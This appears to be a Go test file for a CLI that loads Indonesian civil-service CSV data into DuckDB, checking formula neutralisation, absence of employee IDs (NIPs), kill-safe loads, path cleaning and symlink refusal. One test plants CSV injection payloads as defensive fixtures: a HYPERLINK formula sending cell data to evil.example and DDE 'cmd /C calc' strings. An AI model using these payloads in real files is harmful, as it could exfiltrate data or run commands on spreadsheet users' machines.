package main

import (
	"archive/zip"
	"bufio"
	"bytes"
	"encoding/csv"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// sampleSources are the input files of sample-data/.
var sampleSources = []string{"unit_kerja.csv", "pegawai.csv", "presensi.csv", "rencana_aksi.csv",
	"kinerja_harian.csv", "aduan.csv", "belanja.csv", "kalender.csv"}

// copySample copies the sample's input files into a fresh folder, letting
// edit change a file's records (header included) on the way.
func copySample(t *testing.T, edit map[string]func([][]string) [][]string) string {
	t.Helper()
	dir := t.TempDir()
	for _, name := range sampleSources {
		raw, err := os.ReadFile(filepath.Join("../../sample-data", name))
		if err != nil {
			t.Fatal(err)
		}
		if fn := edit[name]; fn != nil {
			recs, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			w := csv.NewWriter(&b)
			w.WriteAll(fn(recs))
			raw = b.Bytes()
		}
		if err := os.WriteFile(filepath.Join(dir, name), raw, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// sampleUntil copies the sample with only its months up to last
// (YYYY-MM): a complete folder for an earlier month.
func sampleUntil(t *testing.T, last string) string {
	t.Helper()
	keep := func(col int) func([][]string) [][]string {
		return func(recs [][]string) [][]string {
			out := recs[:1]
			for _, r := range recs[1:] {
				if r[col][:7] <= last {
					out = append(out, r)
				}
			}
			return out
		}
	}
	return copySample(t, map[string]func([][]string) [][]string{
		"presensi.csv": keep(1), "rencana_aksi.csv": keep(2), "kinerja_harian.csv": keep(1), "aduan.csv": keep(2), "belanja.csv": keep(1),
	})
}

func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// Text cells that a spreadsheet would run as a formula (=, +, -, @) get a
// leading apostrophe in indicators.csv and flags.csv; numbers, negative
// ones included, stay numbers.
func TestCSVFormulaNeutralised(t *testing.T) {
	names := map[string]string{ // unit_id → hostile name
		"KOTA-SKA-DLH":     `=HYPERLINK("http://evil.example/?x="&A1,"klik")`,
		"KOTA-SKA-BKPSDM":  "+cmd|' /C calc'!A0",
		"PROV-BKL-KOMINFO": "-2+3",
		"KOTA-SKA-DPMPTSP": "@SUM(1+1)*cmd|' /C calc'!A0",
	}
	dir := copySample(t, map[string]func([][]string) [][]string{"unit_kerja.csv": func(r [][]string) [][]string {
		for _, rec := range r[1:] {
			if n, ok := names[rec[0]]; ok {
				rec[1] = n
			}
		}
		return r
	}})
	out := t.TempDir()
	if code, _, stderr := runCLI(t, "run", "--data", dir, "--month", "2026-10", "--db", filepath.Join(t.TempDir(), "w.duckdb"), "--out", out, "--quiet"); code != 0 {
		t.Fatalf("run: %s", stderr)
	}
	ind := readCSV(t, filepath.Join(out, "2026-10", "indicators.csv"))
	if ind[0][1] != "nama_unit" {
		t.Fatalf("indicators.csv header %v", ind[0][:3])
	}
	seen, negatives := 0, 0
	for _, rec := range ind[1:] {
		if n, ok := names[rec[0]]; ok {
			seen++
			if rec[1] != "'"+n {
				t.Errorf("%s: nama_unit %q, want %q", rec[0], rec[1], "'"+n)
			}
		}
		for i, c := range rec {
			if i < 4 || c == "" {
				continue // unit_id, nama_unit, instansi_id, bulan
			}
			if _, err := strconv.ParseFloat(c, 64); err != nil {
				t.Errorf("%s column %s: %q is not a plain number", rec[0], ind[0][i], c)
			}
			if strings.HasPrefix(c, "-") {
				negatives++
			}
		}
	}
	if seen != len(names) || negatives == 0 {
		t.Fatalf("saw %d hostile names, %d negative numbers: the test data lost its point", seen, negatives)
	}
	for _, rec := range readCSV(t, filepath.Join(out, "2026-10", "flags.csv"))[1:] {
		for _, c := range rec {
			if c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
				t.Errorf("flags.csv cell %q could run as a formula", c)
			}
		}
	}
}

// nipRun finds 18-digit runs: every NIP is one.
var nipRun = regexp.MustCompile(`[0-9]{18}`)

// No input NIP appears in the warehouse (file bytes or any text value),
// the outputs, stdout or stderr — including the NIP of a rejected row.
func TestNoNIPAnywhere(t *testing.T) {
	const stray = "199912312025011999" // in presensi, not in pegawai: rejected
	dir := copySample(t, map[string]func([][]string) [][]string{"presensi.csv": func(r [][]string) [][]string {
		return append(r, []string{stray, "2026-10-01", "HADIR", "WFO", "07:30", "16:00"})
	}})
	nips := map[string]bool{stray: true}
	for _, f := range []string{"pegawai.csv", "presensi.csv"} {
		for _, rec := range readCSV(t, filepath.Join(dir, f))[1:] {
			nips[rec[0]] = true
		}
	}
	if len(nips) < 300 {
		t.Fatalf("only %d NIPs in the input", len(nips))
	}
	db, out := filepath.Join(t.TempDir(), "w.duckdb"), t.TempDir()
	var logs bytes.Buffer
	for _, args := range [][]string{
		{"run", "--data", dir, "--month", "2026-10"},
		{"run", "--data", dir, "--month", "2026-10", "--json"},
		{"load", "--data", dir, "--json"},
		{"report", "--month", "2026-10", "--lang", "en"},
	} {
		if args[0] != "load" {
			args = append(args, "--out", out)
		}
		code, stdout, stderr := runCLI(t, append(args, "--db", db)...)
		if code != 0 {
			t.Fatalf("%v: %d %s", args, code, stderr)
		}
		logs.WriteString(stdout + stderr)
	}
	code, stdout, stderr := runCLI(t, "check", "--data", dir, "--db", db, "--out", filepath.Join(out, "periksa.xlsx"))
	if code != 0 {
		t.Fatalf("check: %d %s", code, stderr)
	}
	logs.WriteString(stdout + stderr)
	if !strings.Contains(logs.String(), "unknown_reference") {
		t.Fatal("the stray NIP's row was not rejected: the test lost its point")
	}
	// rejects.csv beside the manifest: the stray row, where and why only.
	rej := readCSV(t, filepath.Join(out, "2026-10", "rejects.csv"))
	if len(rej) != 2 || strings.Join(rej[0], ",") != "source,file,line,column,code,message" || rej[1][1] != "presensi.csv" || rej[1][4] != "unknown_reference" {
		t.Errorf("rejects.csv: %v", rej)
	}
	check := func(where string, b []byte) {
		for _, m := range nipRun.FindAll(b, -1) {
			if nips[string(m)] {
				t.Errorf("%s holds input NIP %s…", where, m[:6])
				return
			}
		}
	}
	check("stdout/stderr", logs.Bytes())
	filepath.Walk(filepath.Dir(db), func(p string, info os.FileInfo, err error) error {
		if err == nil && !info.IsDir() {
			b, _ := os.ReadFile(p)
			check(p, b)
		}
		return nil
	})
	xlsx := 0
	filepath.Walk(out, func(p string, info os.FileInfo, err error) error {
		if err == nil && !info.IsDir() {
			b, _ := os.ReadFile(p)
			check(p, b)
			if strings.HasSuffix(p, ".xlsx") { // zipped XML: look inside
				xlsx++
				z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
				if err != nil {
					t.Fatalf("%s: %v", p, err)
				}
				for _, e := range z.File {
					r, _ := e.Open()
					x, _ := io.ReadAll(r)
					check(p+":"+e.Name, x)
				}
			}
		}
		return nil
	})
	if xlsx != 3 {
		t.Errorf("looked inside %d workbooks, want periksa.xlsx, indikator.xlsx and rekomendasi.xlsx", xlsx)
	}
	// The file bytes can hide a value in compressed blocks: ask DuckDB for
	// every 18-digit run in every text column too.
	check("warehouse values", []byte(warehouseDump(t, db)))
}

// helper runs fwaeval in a real child process and returns it with a
// scanner over its stderr.
func helper(t *testing.T, args ...string) (*exec.Cmd, *bufio.Scanner) {
	t.Helper()
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), "FWAEVAL_TEST_ARGS="+strings.Join(args, "\n"))
	stderr, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	return cmd, bufio.NewScanner(stderr)
}

// copyFile copies a closed warehouse file.
func copyFile(t *testing.T, from, to string) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// A load killed with SIGKILL (or stopped with Ctrl-C) at many points
// leaves a warehouse that opens and holds exactly the state before the
// load — or, when the signal came after the commit, exactly the state
// after it. Never anything in between.
func TestLoadKilled(t *testing.T) {
	base := filepath.Join(t.TempDir(), "base.duckdb")
	if code, _, stderr := runCLI(t, "load", "--data", writeFiles(t, map[string]string{"unit_kerja.csv": units}), "--db", base, "--quiet"); code != 0 {
		t.Fatalf("base load: %s", stderr)
	}
	data := copySample(t, nil)
	ref := filepath.Join(t.TempDir(), "ref.duckdb")
	copyFile(t, base, ref)
	if code, _, stderr := runCLI(t, "load", "--data", data, "--db", ref, "--quiet"); code != 0 {
		t.Fatalf("reference load: %s", stderr)
	}
	before, after := warehouseDump(t, base), warehouseDump(t, ref)
	if before == after {
		t.Fatal("the load changes nothing: the test lost its point")
	}
	// Stop after the n-th progress line, then after a further delay.
	type point struct {
		line  int
		delay time.Duration
	}
	var points []point
	for _, n := range []int{1, 4, 8} { // the load logs one line per file read
		points = append(points, point{n, 0})
	}
	for _, d := range []time.Duration{10, 40, 100, 300} { // checks, merge, commit
		points = append(points, point{8, d * time.Millisecond})
	}
	outcomes := map[string]int{}
	for _, sig := range []syscall.Signal{syscall.SIGKILL, syscall.SIGINT} {
		for _, p := range points {
			db := filepath.Join(t.TempDir(), "w.duckdb")
			copyFile(t, base, db)
			cmd, sc := helper(t, "load", "--data", data, "--db", db)
			n := 0
			for n < p.line && sc.Scan() {
				n++
			}
			time.Sleep(p.delay)
			cmd.Process.Signal(sig)
			for sc.Scan() {
			}
			cmd.Wait()
			switch got := warehouseDump(t, db); got {
			case before:
				outcomes["before"]++
			case after:
				outcomes["after"]++
			default:
				t.Errorf("%v after line %d + %v: the warehouse is neither before nor after the load", sig, p.line, p.delay)
			}
		}
	}
	t.Logf("outcomes: %v", outcomes)
	if outcomes["before"] == 0 {
		t.Error("no stop landed inside the load: the test lost its point")
	}
}

// --out, --db and --data are cleaned: "a/./b/../c//" is used and printed as "a/c".
func TestPathsCleaned(t *testing.T) {
	root := t.TempDir()
	messy := root + "/x/./y/../out//"
	code, stdout, stderr := runCLI(t, "run", "--data", "../../sample-data/./", "--month", "2026-10",
		"--db", root+"//w.duckdb", "--out", messy)
	if code != 0 {
		t.Fatalf("run: %s", stderr)
	}
	want := filepath.Join(root, "x", "out", "2026-10", "report.pdf")
	if _, err := os.Stat(want); err != nil {
		t.Fatalf("outputs not under the cleaned path: %v", err)
	}
	if !strings.Contains(stdout, want) || strings.Contains(stdout, "/./") || strings.Contains(stdout, "//") {
		t.Errorf("printed paths are not clean:\n%s", stdout)
	}
}

// A data folder entry that is a symbolic link leading outside the folder
// is not followed: the load stops with exit 3 naming it, and the
// warehouse is unchanged. Links that stay inside are followed.
func TestSymlinkOutsideDataRefused(t *testing.T) {
	outside := writeFiles(t, map[string]string{"unit_kerja.csv": units})
	dir := t.TempDir()
	if err := os.Symlink(filepath.Join(outside, "unit_kerja.csv"), filepath.Join(dir, "unit_kerja.csv")); err != nil {
		t.Fatal(err)
	}
	db := filepath.Join(t.TempDir(), "w.duckdb")
	code, _, stderr := runCLI(t, "load", "--data", dir, "--db", db, "--quiet")
	if code != 3 || !strings.Contains(stderr, "unit_kerja.csv") || !strings.Contains(stderr, "outside the data directory") {
		t.Fatalf("exit %d, stderr %q; want 3 naming the link", code, stderr)
	}
	if strings.Contains(warehouseDump(t, db), "Dinas A") {
		t.Fatal("the linked file was loaded")
	}
	// A folder source whose file links out is refused the same way.
	dir2 := t.TempDir()
	os.Mkdir(filepath.Join(dir2, "unit_kerja"), 0o755)
	os.Symlink(filepath.Join(outside, "unit_kerja.csv"), filepath.Join(dir2, "unit_kerja", "a.csv"))
	if code, _, stderr := runCLI(t, "load", "--data", dir2, "--db", db, "--quiet"); code != 3 || !strings.Contains(stderr, "unit_kerja/a.csv") {
		t.Fatalf("folder source: exit %d, stderr %q", code, stderr)
	}
	// Inside the folder, a link is fine.
	dir3 := writeFiles(t, map[string]string{"real.txt": units})
	os.Symlink(filepath.Join(dir3, "real.txt"), filepath.Join(dir3, "unit_kerja.csv"))
	if code, _, stderr := runCLI(t, "load", "--data", dir3, "--db", db, "--quiet"); code != 0 {
		t.Fatalf("link inside the folder: exit %d %s", code, stderr)
	}
}
